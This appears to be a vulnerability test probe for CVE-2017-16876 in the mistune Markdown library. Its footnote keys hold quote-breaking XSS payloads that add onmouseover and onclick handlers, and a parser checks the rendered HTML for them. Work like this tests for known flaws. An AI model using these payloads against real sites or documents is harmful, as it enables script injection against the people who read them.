# /// vertice-probe
# id = "PYSEC-2017-18"
# aliases = ["CVE-2017-16876", "GHSA-98gj-wwxm-cj3h"]
# package = "mistune"
# summary = "The key of a Markdown footnote goes into HTML attributes without its quotes escaped, so a document's author can add event handlers."
# severity = [{ type = "CVSS_V3", score = "CVSS:3.0/AV:N/AC:L/PR:N/UI:R/S:C/C:L/I:L/A:N" }]
# cwe = ["CWE-79"]
# kind = "xss"
# symbols = ["mistune.markdown", "mistune.Markdown", "mistune.Renderer.footnote_ref", "mistune.Renderer.footnote_item"]
#
# [[affected]]
# package = "mistune"
# ranges = [{ type = "ECOSYSTEM", events = [{ introduced = "0" }, { fixed = "0.8.1" }] }]
#
# [cases]
# attack = "a footnote key with a quote adds an event handler to the reference mark"
# [cases.variants]
# list_item = "a key without spaces adds a handler to the footnote list, even with escaping on"
# [cases.controls]
# footnote = "an ordinary footnote renders with its mark and its text"
#
# [test]
# vulnerable = "0.8"
# fixed = "0.8.1"
# ///
"""CVE-2017-16876: quotes in a footnote key break out of the attribute."""

import html.parser
import json
import sys


class Tags(html.parser.HTMLParser):
    """Collects (tag, attributes) of every element and the text of the document."""

    def __init__(self):
        super().__init__()
        self.tags = []
        self.text = ""

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text += data


def read(html_text):
    page = Tags()
    page.feed(html_text)
    page.close()
    return page


def look(page, tag):
    for name, attributes in page.tags:
        handlers = [key for key in attributes if key.startswith("on")]
        if name == tag and handlers:
            return "exploited", "<%s> of the footnote has an %s handler" % (tag, handlers[0])
    marks = [attributes["id"] for name, attributes in page.tags if name == tag and "id" in attributes]
    if len(marks) != 1 or "alert(1)" not in marks[0] or "NOTETEXT" not in page.text:
        return "error", "the footnote was not rendered"
    return "blocked", "the whole key stayed inside the id: %r" % marks[0]


def attack():
    import mistune

    key = '" onmouseover="alert(1)'
    return look(read(mistune.markdown("word[^%s]\n\n[^%s]: NOTETEXT\n" % (key, key))), "sup")


def list_item():
    import mistune

    key = '"onclick="alert(1)"x="'
    render = mistune.Markdown(mistune.Renderer(escape=True))
    return look(read(render("word[^%s]\n\n[^%s]: NOTETEXT\n" % (key, key))), "li")


def footnote():
    import mistune

    page = read(mistune.markdown("word[^note]\n\n[^note]: NOTETEXT\n"))
    ids = [attributes.get("id") for name, attributes in page.tags if name in ("sup", "li")]
    good = ids == ["fnref-note", "fn-note"] and "NOTETEXT" in page.text
    return ("works", "mark and note rendered") if good else ("broken", repr(ids))


CASES = {"attack": attack, "list_item": list_item, "footnote": footnote}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
